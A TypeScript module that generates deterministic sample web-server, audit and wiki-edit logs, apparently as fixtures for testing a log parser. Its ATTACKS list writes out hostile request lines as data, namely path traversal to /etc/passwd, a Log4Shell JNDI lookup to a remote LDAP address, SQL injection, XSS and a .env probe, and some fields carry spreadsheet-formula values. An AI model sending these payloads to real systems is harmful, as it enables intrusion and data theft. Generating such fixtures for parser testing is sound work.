import { createRandom, type Random } from "@/server/demo/random";

/** Deterministic logs in the formats of real servers, as lines without line feeds. */

export interface SampleLog {
  /** Used as the source, and as the seed of the values. */
  readonly name: string;
  readonly lines: readonly string[];
}

const PATHS = [
  "/",
  "/cases/1042",
  "/cases/1042/files?sort=name&page=2",
  "/images/logo.png",
  "/搜索?q=民初",
  "/a%20b",
] as const;
const AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "curl/7.68.0",
  "-",
] as const;
const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** `17/May/2015:10:05:03 +0200` */
function clfTime(at: number, offsetHours: number): string {
  const local = new Date(at + offsetHours * 3_600_000).toISOString();
  const month = MONTHS[Number(local.slice(5, 7)) - 1];
  const offset = `${offsetHours < 0 ? "-" : "+"}${String(Math.abs(offsetHours)).padStart(2, "0")}00`;
  return `${local.slice(8, 10)}/${month}/${local.slice(0, 4)}:${local.slice(11, 19)} ${offset}`;
}

interface Line {
  readonly client: string;
  readonly at: number;
  readonly offsetHours: number;
  readonly request: string;
}

function commonLine(random: Random, { client, at, offsetHours, request }: Line): string {
  const status = random.pick([200, 200, 200, 301, 304, 404, 500]);
  return `${client} - - [${clfTime(at, offsetHours)}] "${request}" ${status} ${random.chance(0.1) ? "-" : random.whole(0, 250_000)}`;
}

function combinedLine(random: Random, line: Line): string {
  const referer = random.chance(0.5) ? "-" : "https://example.com/start";
  return `${commonLine(random, line)} "${referer}" "${random.pick(AGENTS)}"`;
}

const ipv4 = (random: Random) => `203.0.113.${random.whole(1, 254)}`;
const get = (random: Random) => `GET ${random.pick(PATHS)} HTTP/1.1`;

/**
 * Generates Combined Log Format over four days in UTC with some duplicate lines. Line `cutLine` is truncated within its
 * user agent.
 */
export function combinedLog(count = 2_000): SampleLog & { readonly cutLine: number } {
  const random = createRandom("combined");
  const start = Date.parse("2015-05-17T10:05:03Z");
  const lines: string[] = [];
  for (let index = 0; index < count; index++) {
    const before = lines.at(-1);
    if (before && random.chance(0.01)) lines.push(before);
    else {
      const at = start + Math.floor((index / count) * 4 * 86_400) * 1_000;
      lines.push(combinedLine(random, { client: ipv4(random), at, offsetHours: 0, request: get(random) }));
    }
  }
  const cutLine = Math.floor(count * 0.9);
  const whole = combinedLine(random, { client: "66.249.73.135", at: start, offsetHours: 0, request: get(random) });
  lines[cutLine - 1] = whole.slice(0, whole.lastIndexOf('"') - 1);
  return { name: "combined.log", lines, cutLine };
}

/** Generates Combined Log Format with IPv6 clients and `posts` POSTs, around the end of summer time in Berlin. */
export function ipv6Log(count = 900): SampleLog & { readonly posts: number } {
  const random = createRandom("ipv6");
  const start = Date.parse("2015-10-24T20:00:00Z");
  const summerEnds = Date.parse("2015-10-25T01:00:00Z");
  let posts = 0;
  const lines = Array.from({ length: count }, (_, index) => {
    const at = start + Math.floor((index / count) * 5 * 86_400) * 1_000;
    const isPost = random.chance(0.3);
    if (isPost) posts++;
    const client = random.chance(0.5) ? `2001:db8::${random.hex(4)}` : ipv4(random);
    const request = isPost ? "POST /join_form HTTP/1.1" : `GET /pages/${random.whole(1, 300)} HTTP/1.0`;
    return combinedLine(random, { client, at, offsetHours: at < summerEnds ? 2 : 1, request });
  });
  return { name: "ipv6.log", lines, posts };
}

const ATTACKS = [
  "GET /../../../../etc/passwd HTTP/1.1",
  "GET /%252E%252E%252Ffoo2 HTTP/1.1",
  "GET /?x=$%7Bjndi:ldap://203.0.113.1:1389/a%7D HTTP/1.1",
  "GET /index.php?id=1'%20OR%20'1'='1 HTTP/1.1",
  "GET /?q=<script>alert(1)</script> HTTP/1.1",
  "GET /foo?a=benchmark%28 HTTP/1.1",
  "PROPFIND / HTTP/1.1",
  "GET /.env HTTP/1.1",
  `GET /${"A".repeat(3_000)} HTTP/1.1`,
] as const;
/** Request lines that servers log for a TLS handshake on a plain-text port, and for connections without a request. */
const NO_REQUESTS = [String.raw`\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03`, "-", ""] as const;

/**
 * Generates attacks and malformed requests, some with a virtual host, with a response time at the end, or in Common Log
 * Format.
 */
export function attackLog(count = 300): SampleLog & {
  readonly withVirtualHost: number;
  readonly withoutRequest: number;
  readonly withResponseTime: number;
} {
  const random = createRandom("attacks");
  const counts = { withVirtualHost: 0, withoutRequest: 0, withResponseTime: 0 };
  const start = Date.parse("2021-09-29T15:30:12Z");
  const lines = Array.from({ length: count }, (_, index) => {
    const hasRequest = index % 20 !== 0;
    const request = hasRequest ? random.pick(ATTACKS) : random.pick(NO_REQUESTS);
    if (!hasRequest) counts.withoutRequest++;
    const line = { client: ipv4(random), at: start + index * 1_000, offsetHours: 2, request };
    switch (index % 10) {
      case 1:
        counts.withVirtualHost++;
        return `example.com ${combinedLine(random, line)}`;
      case 2:
        counts.withResponseTime++;
        return `${combinedLine(random, line)} 0.${random.whole(100, 999)}`;
      case 3:
        return commonLine(random, line);
      default:
        return combinedLine(random, line);
    }
  });
  return { name: "attacks.log", lines, ...counts };
}

/** Generates audit events with IDs as NDJSON over three months; some have a host name in place of the IP address. */
export function auditEvents(count = 900): SampleLog {
  const random = createRandom("audit");
  const start = Date.parse("2023-05-10T11:42:18Z");
  const lines = Array.from({ length: count }, (_, index) =>
    JSON.stringify({
      id: random.uuid(),
      user_id: random.pick(["benjamin", "李雷", "svc-backup"]),
      action: random.pick(["GetBucketPolicy", "AssumeRole", "ConsoleLogin"]),
      resource_type: random.pick(["s3.example.com", "sts.example.com"]),
      resource_id: random.chance(0.3) ? null : `arn:aws:s3:::bucket-${random.hex(6)}`,
      details: { request: { bucketName: random.hex(8), policy: "" }, error: null, region: "us-east-1" },
      ...(random.chance(0.1) ? { source_host: "support.example.com" } : { ip_address: `10.248.16.${index % 250}` }),
      user_agent: random.pick(["Boto3/1.26.165 Python/3.10.6", "[Boto3/1.26.165]"]),
      created_at: new Date(start + index * 8_640_000).toISOString().replace(".000Z", "Z"),
    }),
  );
  return { name: "audit.jsonl", lines };
}

const COMMENTS = [
  "added project",
  "=SUM(A1:A9)",
  "+1",
  "@someone see talk",
  "案号（2024）京01民终123号，全角；“引号”",
  "مرحبا بالعالم",
  "emoji \u{1F600} and a combining e\u0301",
  'quotes " and \\ back\\slashes',
  "line\nfeed and\ttab",
  "\u00A0\u2028\uFEFF",
  "",
] as const;

/** Generates page edits as NDJSON without IDs, with text in many scripts in every field. */
export function editEvents(count = 3_000): SampleLog {
  const random = createRandom("edits");
  const start = Date.parse("2015-09-11T00:46:58.771Z");
  const lines = Array.from({ length: count }, (_, index) =>
    JSON.stringify({
      user_id: random.pick(["GELongstreet", "PereBot", "用户甲", "=cmd"]),
      action: "page_edit",
      resource_type: random.pick(["Main", "Talk", "项目"]),
      resource_id: `Talk:${random.pick(COMMENTS)} ${index}`,
      details: {
        channel: "#zh.wiki",
        comment: random.pick(COMMENTS),
        delta: random.whole(-900, 900),
        robot: random.chance(0.4),
      },
      created_at: new Date(start - index * 137).toISOString(),
    }),
  );
  return { name: "edits.jsonl", lines };
}

/** Returns the log as the text of a file. */
export function textOf({ lines }: SampleLog): string {
  return `${lines.join("\n")}\n`;
}
